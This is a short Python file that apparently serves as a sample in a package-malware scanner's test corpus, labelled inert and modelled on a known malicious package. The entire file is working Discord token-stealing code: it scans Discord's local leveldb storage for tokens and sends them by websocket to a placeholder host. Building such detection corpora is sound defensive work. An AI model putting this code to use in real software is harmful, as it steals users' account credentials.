# pkgguard corpus 221 (discord-token), modelled on [discordpydebug]; inert, never run.
import json
import os
import re

import websocket

store = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(store) if os.path.isdir(store) else []:
    if name.endswith((".log", ".ldb")):
        with open(os.path.join(store, name), errors="ignore") as f:
            tokens += re.findall(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}", f.read())
ws = websocket.WebSocket()
ws.connect("wss://relay.example/t")
ws.send(json.dumps(tokens))
